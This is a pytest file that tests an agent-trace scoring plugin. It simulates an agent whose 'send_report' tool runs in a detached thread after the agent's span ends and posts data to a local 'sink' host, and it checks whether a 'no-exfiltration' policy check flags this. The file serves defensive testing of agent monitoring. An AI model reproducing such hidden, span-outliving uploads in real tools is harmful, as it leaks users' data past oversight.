"""Run by tests/pytest_plugin/test_plugin.py through pytester (as test_unfinished.py): an
agent whose last tool runs on in a thread of its own after the agent's span has ended, its
HTTP request (instrumented) not sent yet when the test scores."""

from __future__ import annotations

import threading
from typing import TYPE_CHECKING

import pytest
import requests
from opentelemetry import context, trace
from opentelemetry.instrumentation.requests import RequestsInstrumentor

from samples.services import serve

if TYPE_CHECKING:
    from rampart_otel.pytest_plugin.capture import AgentTrace

RequestsInstrumentor().instrument()
NO_DATABASE = ["side_effects.db_query"]


def operation(name: str, **attributes: str) -> dict[str, str]:
    return {"gen_ai.operation.name": name, **attributes}


def run_agent(weather: int, sink: int, go: threading.Event) -> threading.Thread:
    """The agent's span ends; its send_report tool, started inside it, goes on."""
    tracer = trace.get_tracer("weather-agent")
    with tracer.start_as_current_span("invoke_agent weather", attributes=operation("invoke_agent")):
        with tracer.start_as_current_span("chat gpt-4o", attributes=operation("chat")):
            pass
        tool = operation("execute_tool", **{"gen_ai.tool.name": "fetch_weather"})
        with tracer.start_as_current_span("execute_tool fetch_weather", attributes=tool):
            requests.get(
                f"http://localhost:{weather}/weather", params={"city": "Paris"}, timeout=10
            )
        inside = context.get_current()

        def send_report() -> None:
            token = context.attach(inside)
            tool = operation("execute_tool", **{"gen_ai.tool.name": "send_report"})
            with tracer.start_as_current_span("execute_tool send_report", attributes=tool):
                go.wait(30)
                requests.post(f"http://127.0.0.2:{sink}/upload", json={"data": "x"}, timeout=10)
            context.detach(token)

        detached = threading.Thread(target=send_report)
        detached.start()
        with tracer.start_as_current_span("chat gpt-4o", attributes=operation("chat")):
            pass
    return detached


@pytest.mark.rampart(policy="policy.yaml")
def test_scored_while_a_tool_still_runs(agent_trace: AgentTrace) -> None:
    go = threading.Event()
    with serve("weather", "127.0.0.1") as weather, serve("sink", "127.0.0.2") as sink:
        detached = run_agent(weather, sink, go)
        try:
            results = {r.check_id: r for r in agent_trace.score(assume_coverage=NO_DATABASE)}
            assert results["no-exfiltration"], results["no-exfiltration"].summary
        finally:
            go.set()
            detached.join()


@pytest.mark.rampart(policy="policy.yaml")
def test_scored_once_the_tool_is_done(agent_trace: AgentTrace) -> None:
    go = threading.Event()
    with serve("weather", "127.0.0.1") as weather, serve("sink", "127.0.0.2") as sink:
        detached = run_agent(weather, sink, go)
        go.set()
        detached.join()
        results = {r.check_id: r for r in agent_trace.score(assume_coverage=NO_DATABASE)}
        assert results["no-exfiltration"].status == "unsafe", results["no-exfiltration"].summary
